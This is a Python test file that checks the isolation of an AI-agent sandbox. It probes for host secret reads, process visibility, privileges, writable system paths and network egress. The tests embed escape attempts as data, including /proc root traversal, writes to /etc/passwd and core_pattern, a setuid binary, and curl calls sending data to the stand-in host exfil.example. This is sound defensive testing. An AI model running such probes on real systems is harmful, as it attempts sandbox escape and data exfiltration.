"""What the agent cannot reach, asked from inside a real session and checked from the host."""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest

from tests.support.product import Product
from tests.support.users import ordinary_user

pytestmark = [pytest.mark.user, pytest.mark.usefixtures("nothing_left")]

PYTHON = "/usr/bin/python3"


def _ask(product: Product, code: str, *options: str) -> object:
    """Run Python inside; what it prints, as JSON."""
    ran = product.command("run", *options, "--", PYTHON, "-c", code)
    assert ran.status == 0, ran.stderr
    return json.loads(ran.stdout)


@contextmanager
def _canaries(product: Product) -> Iterator[tuple[str, list[Path]]]:
    """A secret text in every kind of place of the host that the test may write to."""
    secret = secrets.token_hex(16)
    places = [product.home / ".ssh" / "id", product.home / ".netrc", product.repository.parent / "beside"]
    for directory in (
        "/root",
        "/etc",
        "/var",
        "/var/lib",
        "/tmp",
        "/run",
        "/opt",
        "/srv",
        "/home",
        "/dev/shm",
        "/var/tmp",
    ):
        if os.access(directory, os.W_OK):
            places.append(Path(directory) / f"canary-{secret[:8]}")
    for place in places:
        place.parent.mkdir(exist_ok=True)
        place.write_text(secret)
        place.chmod(0o644)
    try:
        yield secret, places
    finally:
        for place in places:
            place.unlink()


def test_no_canary_of_the_host_can_be_read(product: Product) -> None:
    with _canaries(product) as (secret, places):
        code = f"""
import json, os
found = []
for path in {[str(p) for p in places]!r}:
    for seen in (path, "/proc/self/root" + path, "/proc/1/root" + path, "/proc/1/cwd/.." + path, "/workspace/.." + path):
        try:
            open(seen).read(); found.append(seen)
        except OSError: pass
for top in ("/home", "/tmp", "/run", "/var", "/etc", "/opt", "/srv", "/root", "/dev/shm", "/workspace"):
    for folder, _, names in os.walk(top):
        for name in names:
            if name == "ptmx": continue  # a read of it waits for ever
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    if {secret!r}.encode() in file.read(4096): found.append(os.path.join(folder, name))
            except OSError: pass
print(json.dumps(found))
"""
        # The secret itself stands on this command line, so it is searched for in files, not in /proc.
        assert _ask(product, code) == []


def test_only_its_own_processes_are_visible(product: Product) -> None:
    seen = _ask(
        product,
        "import json,os;print(json.dumps({p: open(f'/proc/{p}/comm').read().strip() for p in os.listdir('/proc') if p.isdigit()}))",
    )
    assert isinstance(seen, dict)
    assert set(seen.values()) <= {"containai-shim", "python3"}
    assert seen["1"] == "containai-shim"


def test_identity_capabilities_and_guards_in_the_kernels_own_words(product: Product) -> None:
    status = _ask(
        product,
        "import json;print(json.dumps({l.split(':')[0]: l.split(':',1)[1].strip() for l in open('/proc/self/status')}))",
    )
    assert isinstance(status, dict)
    assert set(status["Uid"].split()) == {"1000"}
    assert {status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == {"0" * 16}
    assert status["NoNewPrivs"] == "1"
    assert status["Seccomp"] == "2"


def test_it_knows_its_own_name(product: Product) -> None:
    said = _ask(
        product,
        "import json,pwd,os,socket;print(json.dumps([pwd.getpwuid(os.getuid()).pw_name, open('/etc/hostname').read().strip()]))",
    )
    assert said == ["agentuser", "containai"]


def test_on_the_host_it_is_never_root(product: Product) -> None:
    child = product.start("echo x > f; sleep 60")
    try:
        uids = _uids_of(product)
        assert uids
        assert 0 not in uids
        if os.geteuid() == 0:
            assert min(uids) >= 0x70000000
    finally:
        child.terminate()
        child.communicate(timeout=60)


@pytest.mark.needs("root")
def test_what_the_agent_opens_to_all_is_out_of_other_users_reach(product: Product) -> None:
    """Neither its files nor, by a setuid copy of a program, its user."""
    other = ordinary_user()
    assert other is not None
    with tempfile.TemporaryDirectory(dir="/var/tmp") as state:
        Path(state).chmod(0o755)
        away = replace(product, variables={**product.variables, "XDG_STATE_HOME": state})
        child = away.start("cp /usr/bin/id i; chmod 4755 i; echo private > f; chmod 777 . f; touch ready; sleep 60")
        try:
            session = _until(lambda: next(Path(state).glob("containai/sessions/*/workspace/ready"), None)).parent
            assert session.stat().st_mode & 0o777 == 0o777
            for argv in (["cat", f"{session}/f"], ["sh", "-c", f"exec '{session}/i' -u"], ["ls", f"{session.parent}"]):
                tried = other.run(argv, cwd=Path("/"))
                assert tried.returncode != 0, argv
                assert b"Permission denied" in tried.stderr, tried.stderr
        finally:
            child.terminate()
            child.communicate(timeout=60)


def _until(look: Callable[[], Path | None]) -> Path:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if (found := look()) is not None:
            return found
        time.sleep(0.05)
    raise AssertionError("it did not come")


def _uids_of(product: Product) -> set[int]:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        found = set()
        for entry in Path("/proc").glob("[0-9]*"):
            try:
                if b"sleep\x0060" in (entry / "cmdline").read_bytes() and os.readlink(entry / "cwd").startswith("/"):
                    found |= {int(u) for u in (entry / "status").read_text().split("Uid:")[1].split("\n")[0].split()}
            except OSError:
                continue
        if found and any(product.sessions.glob("*/workspace/f")):
            return found
        time.sleep(0.05)
    return set()


@pytest.mark.parametrize(
    "path", ["/usr/bin/planted", "/etc/passwd", "/etc/planted", "/planted", "/dev/planted", "/proc/sys/kernel/core_pattern",
             "/proc/sysrq-trigger", "/sys/devices/system/cpu/planted", "/run/containai-shim"]
)  # fmt: skip
def test_nothing_outside_its_own_places_can_be_written(product: Product, path: str) -> None:
    said = _ask(
        product,
        f"import json\ntry:\n open({path!r},'w').write('x'); print(json.dumps('written'))\nexcept OSError as e: print(json.dumps(e.errno))",
    )
    assert said in (1, 2, 13, 30)  # EPERM, ENOENT, EACCES, EROFS


def test_no_interface_but_loopback_and_no_way_out(product: Product) -> None:
    code = """
import json, socket, os
out = {"interfaces": [n for _, n in socket.if_nameindex()]}
for name, family, address in (("v4", socket.AF_INET, ("192.0.2.1", 443)), ("v6", socket.AF_INET6, ("2001:db8::1", 443))):
    try:
        with socket.socket(family) as s: s.settimeout(3); s.connect(address)
        out[name] = "connected"
    except OSError as e: out[name] = e.errno
try: socket.getaddrinfo("example.org", 443); out["dns"] = "resolved"
except OSError: out["dns"] = "no"
for name, args in (("raw", (socket.AF_INET, socket.SOCK_RAW, 1)), ("packet", (17, socket.SOCK_RAW, 0)), ("vsock", (40, socket.SOCK_STREAM, 0))):
    try: socket.socket(*args); out[name] = "made"
    except OSError as e: out[name] = e.errno
print(json.dumps(out))
"""
    out = _ask(product, code)
    assert isinstance(out, dict)
    assert out["interfaces"] == ["lo"]
    assert out["v4"] == 101  # ENETUNREACH
    assert out["v6"] in (97, 99, 101)
    assert out["dns"] == "no"
    assert {out["raw"], out["packet"], out["vsock"]} <= {1, 22, 93, 94, 97, 38, 13}


@contextmanager
def _service(answer: bytes) -> Iterator[int]:
    """A TCP service on the host's loopback that answers one thing."""
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            with client:
                client.sendall(answer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        server.shutdown(socket.SHUT_RDWR)
        server.close()
        thread.join(5)


_READ = "import json,socket\ntry:\n print(json.dumps(socket.create_connection(('127.0.0.1',{port}),5).recv(99).decode()))\nexcept OSError as e: print(json.dumps(e.errno))"


def test_exactly_the_granted_local_service_can_be_reached(product: Product) -> None:
    with _service(b"granted") as granted, _service(b"other") as other:
        option = ("--allow-local", f"127.0.0.1:{granted}")
        assert _ask(product, _READ.format(port=granted), *option) == "granted"
        assert _ask(product, _READ.format(port=other), *option) == 111  # ECONNREFUSED
        assert _ask(product, _READ.format(port=granted)) == 111


def test_abstract_unix_sockets_of_the_host_are_out_of_reach(product: Product) -> None:
    name = f"\0containai-test-{secrets.token_hex(8)}"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name)
        server.listen()
        code = f"import json,socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect({name!r}); print(json.dumps('connected'))\nexcept OSError as e: print(json.dumps(e.errno))"
        assert _ask(product, code) in (1, 111)


def test_an_unlisted_host_is_refused_and_logged(product: Product) -> None:
    ran = product.run(
        "curl -s -o /dev/null -w '%{http_connect} ' https://exfil.example/;"
        "curl -s -o /dev/null -w '%{http_code}\\n' 'http://exfil.example/?data=1'"
    )
    assert ran.printed.split() == ["403", "403"], ran.stderr
    look = f"containai log {ran.result['session']} --kind network"
    assert f"containai: 1 host was refused: exfil.example; look: {look}" in ran.stderr.splitlines()
    refused = [e for e in product.events(ran, "network") if e.get("host") == "exfil.example"]
    assert [(e["method"], e["port"], e["verdict"]) for e in refused] == [("CONNECT", 443, "deny"), ("GET", 80, "deny")]


def test_with_no_network_there_is_no_proxy(product: Product) -> None:
    assert _ask(product, _READ.format(port=3128), "--network-proxy", "none") == 111


def test_a_passed_variable_is_on_no_command_line_and_in_no_log(product: Product) -> None:
    secret = secrets.token_hex(16)
    with_secret = Product(home=product.home, repository=product.repository, variables={"MY_TOKEN": secret})
    ran = with_secret.run(
        'test -n "$MY_TOKEN" && printf %s "$MY_TOKEN" | sha256sum; echo x > f; sleep 1', "--env", "MY_TOKEN"
    )
    import hashlib

    assert ran.printed.split()[0] == hashlib.sha256(secret.encode()).hexdigest()
    for path in product.home.rglob("*"):
        if path.is_file():
            assert secret.encode() not in path.read_bytes(), path
    child = with_secret.start("echo x > f; sleep 60", "--env", "MY_TOKEN")
    try:
        _uids_of(product)
        lines = b"".join(p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if _readable(p))
        assert secret.encode() not in lines
    finally:
        child.terminate()
        child.communicate(timeout=60)


def _readable(path: Path) -> bool:
    try:
        path.read_bytes()
    except OSError:
        return False
    return True


def test_limits_are_the_planned_ones(product: Product) -> None:
    fork = product.run(
        "for i in $(seq 200); do sleep 5 & done; wait", "--memory", "256m", "--cpu", "1", "--timeout", "4"
    )
    assert fork.status in (0, 124)
    hog = product.run(f"{PYTHON} -c 'x = bytearray(600_000_000); print(len(x))'", "--memory", "256m")
    assert hog.status != 0
    assert "600000000" not in hog.printed


def test_what_the_agent_gets_of_standard_output_cannot_be_reopened_as_the_users_file(product: Product) -> None:
    target = product.home / "output.txt"
    target.write_text("earlier content\n")
    with target.open("ab") as file:
        done = subprocess.run(
            product.argv("run", "--", PYTHON, "-c",
                         "import os\nprint(os.readlink('/proc/self/fd/1').split(':')[0], flush=True)\nos.ftruncate(1, 0)"),
            cwd=product.repository, env=product.environment, stdin=subprocess.DEVNULL, stdout=file,
            stderr=subprocess.DEVNULL, timeout=60, check=False,
        )  # fmt: skip
    assert done.returncode != 0  # ftruncate of a pipe
    assert target.read_text() == "earlier content\npipe\n"
